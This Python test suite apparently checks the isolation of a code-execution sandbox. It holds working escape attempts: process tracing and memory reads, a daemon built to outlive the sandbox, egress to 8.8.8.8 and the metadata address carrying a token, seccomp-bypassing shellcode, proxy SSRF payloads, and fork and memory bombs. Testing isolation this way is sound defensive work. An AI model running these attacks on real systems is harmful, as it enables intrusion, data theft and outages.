"""Attempts on other processes, the network, the kernel and the machine's resources."""

from tests.runtime.hands.attempts import (
    Attempt,
    amount,
    dead,
    heard,
    outlives,
    py,
    reached,
    sh,
)

SURVIVOR = """
import os, signal, sys, time
ALIVE = "import time\\nfor _ in range(400):\\n    open('alive', 'w').write(str(time.time())); time.sleep(0.05)"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (1, 2, 3, 13, 14, 15):
            signal.signal(number, signal.SIG_IGN)
        null = os.open("/dev/null", os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(null, descriptor)
        os.execve("/usr/bin/python3", ["unrelated", "-I", "-S", "-c", ALIVE], {})
    os._exit(0)
time.sleep(0.7)
print("left", flush=True)
"""
"""Leaves a program that is nobody's child, in a session of its own, with no name and no environment to be known by."""

PROCESSES = (
    sh("see processes", "find a process of the machine", "cat /proc/[0-9]*/cmdline | tr '\\0' '\\n'; ps -ef"),
    py("kill one", "kill a process of the machine", "import os; os.kill(@VICTIM@, 9)", after=dead),
    Attempt("kill all", "kill every process there is", "py", "import os; os.kill(-1, 9)", after=dead,
            unsafe="would kill everything on the machine"),
    py("trace", "attach to a process of the machine", """
if libc.ptrace(16, @VICTIM@, 0, 0) == 0:
    print("ESCAPED"); libc.waitpid(@VICTIM@, 0, 0x40000000); libc.ptrace(17, @VICTIM@, 0, 0)
"""),
    py("read memory", "read a process's memory", """
buffer = ctypes.create_string_buffer(200)
local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 200); far = (ctypes.c_uint64 * 2)(@ADDRESS@, 100)
print(call(310, @VICTIM@, local, 1, far, 1, 0), buffer.raw)
"""),
    py("read memory by file", "read a process's memory through /proc", """
file = open("/proc/@VICTIM@/mem", "rb", buffering=0); file.seek(@ADDRESS@); print(file.read(100))
"""),
    py("take a descriptor", "take an open file from a process", """
import os
for pid in (@VICTIM@, 1):
    for number in range(3, 12):
        taken = call(438, call(434, pid, 0), number, 0)
        if taken >= 0:
            try:
                print(os.pread(taken, 4096, 0))
            except OSError as error:
                print(error)
"""),
    py("enter namespaces", "enter the namespaces of a process of the machine", """
import os
for pid in (@VICTIM@, 1):
    for kind in ("user", "mnt"):
        try:
            print(libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0), ctypes.get_errno())
        except OSError as error:
            print(error)
try:
    print(open("@DATA@/secret").read())
except OSError as error:
    print(error)
"""),
    py("shared memory", "read a System V segment of the machine", """
found = libc.shmget(@SHM_KEY@, 0, 0)
libc.shmat.restype = ctypes.c_void_p
where = libc.shmat(found, None, 0o10000)
print(found, ctypes.string_at(where, 100) if found >= 0 and where not in (None, 2**64 - 1) else "")
"""),
    py("message queue", "read a POSIX message queue of the machine", """
queue = call(240, b"@MARK@-queue", 0o4000, 0, 0)
buffer = ctypes.create_string_buffer(8192)
print(queue, call(243, queue, buffer, 8192, None, None), buffer.value)
"""),
    py("keyring", "read a key of the machine's user", """
buffer = ctypes.create_string_buffer(4096)
for ring in (-4, -5, -3):
    found = call(250, 10, ring, b"user", b"@MARK@", 0)
    print(ring, found, call(250, 11, found, buffer, 4096), buffer.value)
"""),
    py("terminal", "type into the controlling terminal", """
import fcntl, os, termios
for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1"):
    try:
        fcntl.ioctl(os.open(path, os.O_RDWR), termios.TIOCSTI, b"x"); print("ESCAPED", path)
    except OSError as error:
        print(path, error)
"""),
    Attempt("outlive the command", "leave a daemon when the command ends", "py", SURVIVOR, after=outlives),
    Attempt("outlive the time", "leave a daemon when the time is up",
       "py", SURVIVOR + "time.sleep(60)", after=outlives, time_s=3),
    Attempt("outlive the sandbox", "leave a daemon when the sandbox is destroyed", "py", SURVIVOR + "time.sleep(60)",
            after=outlives, destroyed_s=3),
)  # fmt: skip

SEND = """
import socket
def leaves(host):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect((host, 9))
    return one.getsockname()[0] not in (host, "127.0.0.1")  # else it leads from the loopback to the loopback
def udp(host, port, data=b"@TOKEN_OUT@"):
    try:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.sendto(data, (host, port)); return leaves(host)
    except OSError as error:
        print(host, port, error)
        return False
def tcp(family, where):
    try:
        one = socket.socket(family, socket.SOCK_STREAM); one.settimeout(3); one.connect(where); one.sendall(b"x")
    except OSError as error:
        print(where, error)
"""

NETWORK = (
    py("loopback of the machine", "connect to a service on 127.0.0.1",
       SEND + 'tcp(2, ("127.0.0.1", @TCP@))', after=heard),
    py("addresses of the machine", "connect to its other addresses", SEND + """
for host in "@OWN@".split():
    tcp(2, (host, @TCP@))
""", after=heard),
    py("abstract socket", "connect to an abstract Unix socket", SEND + 'tcp(1, "\\0@MARK@-abstract")', after=heard),
    py("Unix socket", "connect to a Unix socket in a directory", SEND + 'tcp(1, "@OPEN@/socket")', after=heard),
    py("datagram", "send a datagram to a service of the machine", SEND + 'udp("127.0.0.1", @UDP@)', after=heard),
    Attempt("be reached", "listen on a port that others can reach", "py", """
import socket, time
one = socket.socket(); one.setsockopt(1, 2, 1); one.bind(("0.0.0.0", @FREE@)); one.listen()
print("ready", flush=True); one.settimeout(3)
try:
    one.accept()[0].sendall(b"from the sandbox")
except OSError as error:
    print(error)
""", during=reached),
    py("name server", "ask a name server far away", SEND + 'print("ESCAPED" if udp("8.8.8.8", 53) else "")'),
    py("names as a channel", "ask the machine's own name servers", SEND + """
for host in "@NAMESERVERS@".split():
    print("ESCAPED" if udp(host, 53) else "")
try:
    print(socket.getaddrinfo("secret.example.com", 80), "ESCAPED")
except OSError as error:
    print(error)
"""),
    py("metadata address", "reach the cloud's metadata service",
       SEND + 'print("ESCAPED" if udp("169.254.169.254", 80) else "")'),
    py("ping", "send an echo request", SEND + """
for kind, protocol in ((2, 1), (3, 1)):
    try:
        socket.socket(2, kind, protocol).sendto(b"\\x08\\x00\\xf7\\xff\\0\\0\\0\\0", ("8.8.8.8", 0))
        print("ESCAPED" if leaves("8.8.8.8") else "")
    except OSError as error:
        print(error)
"""),
    py("raw frames", "listen on the machine's interfaces", """
import socket
names = [name for _, name in socket.if_nameindex()]
print(names)
for name in [n for n in "@INTERFACES@".split() if n in names]:
    try:
        socket.socket(17, 3, socket.htons(3)).bind((name, 0)); print("ESCAPED", name)
    except OSError as error:
        print(name, error)
"""),
    py("interfaces", "learn the machine's interfaces by netlink", """
import socket
one = socket.socket(16, 3, 0); one.send(b"\\x14\\0\\0\\0\\x12\\0\\x01\\x03\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0")
data = one.recv(65536)
print([name for name in "@INTERFACES@".split() if name.encode() + b"\\0" in data] and "ESCAPED")
"""),
    py("host by vsock", "connect to the hypervisor", """
import socket
for cid in (0, 1, 2):
    try:
        one = socket.socket(40, 1); one.settimeout(2); one.connect((cid, 1024)); print("ESCAPED")
    except OSError as error:
        print(error)
"""),
)  # fmt: skip


def refused(name: str, what: str, call: str, *, unsafe: str = "", permitted: str = "") -> Attempt:
    """A system call that must not be let through to this machine's kernel. Another kernel may answer what it likes.

    permitted: errors of a kernel that would have done it, had the arguments been right.
    """
    errors = permitted or "set()"
    return py(name, what, f"""
result = {call}
number = ctypes.get_errno()
same = open("/proc/version").read().strip() == '''@VERSION@'''
print(result, number, same)
if same and (result >= 0 or number in {errors}):
    print("ESCAPED")
""", unsafe=unsafe)  # fmt: skip


ZEROS = "ctypes.create_string_buffer(256)"
KERNEL = (
    refused("load a program into the kernel", "bpf", f"call(321, 5, {ZEROS}, 128)", permitted="{22, 7, 14}"),
    refused("performance counters", "perf_event_open of the whole machine",
            "call(298, (ctypes.c_uint32 * 32)(1, 128), -1, 0, -1, 0)"),
    refused("io_uring", "system calls that filters do not see", f"call(425, 8, {ZEROS})"),
    refused("userfaultfd", "hold the kernel up in the middle of a copy", "call(323, 0)"),
    refused("watch files", "fanotify on the machine's mounts", "call(300, 0, 0)"),
    refused("load a module", "init_module", f"call(175, {ZEROS}, 256, b'')", permitted="{8, 22, 14}"),
    refused("another kernel", "kexec_load", "call(246, 0, 0, None, 0)", unsafe="would drop a kernel that was loaded"),
    refused("reboot", "switch Ctrl-Alt-Del on",
       "call(169, 0xfee1dead, 672274793, 0x89abcdef, 0)", unsafe="would change what the keys do"),
    refused("clock", "set the machine's clock",
       "(lambda t: libc.clock_gettime(0, t) or call(227, 0, t))((ctypes.c_long * 2)())",
            unsafe="would move the clock"),
    refused("ports", "input and output ports of the hardware", "call(173, 0x80, 1, 1)"),
    refused("swap", "swapon", "call(167, b'/nowhere', 0)", permitted="{2, 22}"),
    refused("real time", "take a core for oneself (SCHED_FIFO)",
       "libc.sched_setscheduler(0, 1, (ctypes.c_int * 1)(50))"),
    refused("new user namespace", "more of the kernel to attack", "call(272, 0x10000000)"),
    refused("32-bit calls", "unshare by the numbers of x32", "call(272 | 0x40000000, 0x10000000)"),
    py("old calls", "unshare by int 0x80, past a filter for 64 bits", """
import mmap  # push rbx; mov eax, 310; mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
code = b"\\x53\\xb8\\x36\\x01\\x00\\x00\\xbb\\x00\\x00\\x00\\x10\\xcd\\x80\\x5b\\xc3"
page = mmap.mmap(-1, 4096, prot=7); page.write(code)
result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
print(result); print("ESCAPED" if result == 0 else "")
"""),
)  # fmt: skip

PROXY = """
import socket
def asked(data):
    try:
        one = socket.create_connection(("127.0.0.1", 3128), 5); one.settimeout(5); one.sendall(data)
        said = b""
        while chunk := one.recv(4096):
            said += chunk
        print(data[:60], said[:60])
    except OSError as error:
        print(data[:60], error)
def socks(host, port):
    name = host.encode()
    asked(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes((len(name),)) + name + port.to_bytes(2, "big") + b"x")
"""
NO_LIST = "a plain process has no list"


def proxied(name: str, what: str, script: str, **more: object) -> Attempt:
    """From a sandbox that may reach one host, through its proxy."""
    return py(name, what, PROXY + script, after=heard, egress=("listed.example:443",), unsafe=NO_LIST, **more)


EGRESS = (
    proxied("proxy to loopback", "have the proxy connect to the machine", """
for host in ("127.0.0.1", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]", "127.1", "2130706433", "0x7f.1",
             *"@OWN@".split()):
    asked(f"CONNECT {host}:@TCP@ HTTP/1.1\\r\\n\\r\\nx".encode())
    asked(f"GET http://{host}:@TCP@/ HTTP/1.1\\r\\nHost: {host}:@TCP@\\r\\n\\r\\n".encode())
    socks(host, @TCP@)
"""),
    proxied("proxy by another name", "name a listed host to the proxy, and another in the request", """
asked(b"GET http://listed.example:443/ HTTP/1.1\\r\\nHost: 127.0.0.1:@TCP@\\r\\n\\r\\n")
asked(b"GET http://listed.example:443@127.0.0.1:@TCP@/ HTTP/1.1\\r\\n\\r\\n")
asked(b"GET http://127.0.0.1:@TCP@#listed.example:443/ HTTP/1.1\\r\\n\\r\\n")
asked(b"CONNECT listed.example:443\\x00.127.0.0.1:@TCP@ HTTP/1.1\\r\\n\\r\\n")
socks("listed.example\\0.127.0.0.1", @TCP@)
"""),
    proxied("past the proxy", "connect around the proxy although there is one", """
for host in ("127.0.0.1", *"@OWN@".split()):
    try:
        socket.create_connection((host, @TCP@), 3)
    except OSError as error:
        print(host, error)
"""),
)  # fmt: skip

AMOUNTS = (
    Attempt("fork bomb", "more processes than allowed", "py", """
import os, time
made = 0
try:
    while made < 400:
        if os.fork() == 0:
            time.sleep(20); os._exit(0)
        made += 1
except OSError as error:
    print(error)
print("made", made, flush=True)
print("ESCAPED" if made >= 400 else "", flush=True)
os._exit(0)
"""),
    Attempt("thread bomb", "more threads than allowed", "py", """
import threading, time
threading.stack_size(64 << 10)
made = 0
try:
    while made < 400:
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start(); made += 1
except (RuntimeError, MemoryError) as error:
    print(error)
print("made", made, flush=True)
print("ESCAPED" if made >= 400 else "", flush=True)
import os; os._exit(0)
"""),
    Attempt("memory bomb", "more memory than allowed, in several processes", "py", """
import os, time
held = 0
ours, theirs = os.pipe()
for number in range(8):
    if os.fork() == 0:
        try:
            load = b"x" * (100 << 20)
            os.write(theirs, b"1"); time.sleep(3)
        except MemoryError:
            pass
        os._exit(0)
os.close(theirs)
time.sleep(2.5)
os.set_blocking(ours, False)
try:
    held = len(os.read(ours, 100))
except OSError as error:
    print(error)
print(held, "hold 100 MiB each", flush=True)
alive = sum(os.waitpid(-1, os.WNOHANG)[0] == 0 for _ in range(1)) and held
print("ESCAPED" if held >= 6 and alive else "", flush=True)
"""),
    Attempt("memory in files", "more memory than allowed, as files in memory", "py", """
import os
for number in range(64):
    for place in ("/dev/shm", None):
        try:
            file = os.open(f"/dev/shm/{number}-@MARK@", os.O_RDWR | os.O_CREAT) if place else os.memfd_create("x")
            os.write(file, b"x" * (16 << 20))
        except OSError as error:
            print(error)
    if place is None and number == 63:
        names = [f"/proc/self/fd/{n}" for n in os.listdir("/proc/self/fd")]
        total = sum(os.stat(name).st_blocks * 512 for name in names if os.path.exists(name))
        print(total); print("ESCAPED" if total > 900 << 20 else "", flush=True)
"""),
    Attempt("disk filler", "more bytes in the workspace than allowed", "py", """
for number in range(40):
    with open(f"fill-{number}", "wb") as file:
        file.write(b"x" * (10 << 20))
""", after=amount("bytes")),
    Attempt("disk filler in /tmp", "more bytes in temporary files than allowed", "py", """
for number in range(40):
    with open(f"/tmp/@MARK@-{number}", "wb") as file:
        file.write(b"x" * (10 << 20))
""", after=amount("bytes")),
    Attempt("inode filler", "ten times the files that the disk limit pays for", "py", """
import os
for number in range(400_000):
    if number % 1000 == 0:
        os.makedirs(f"many/{number}", exist_ok=True)
    open(f"many/{number // 1000 * 1000}/{number}", "w").close()
""", after=amount("files"), time_s=10),
    Attempt("output flood", "more output than allowed", "py", """
import os
for _ in range(400):
    os.write(1, b"x" * 65536)
""", after=amount("output"), alike=True),
)  # fmt: skip
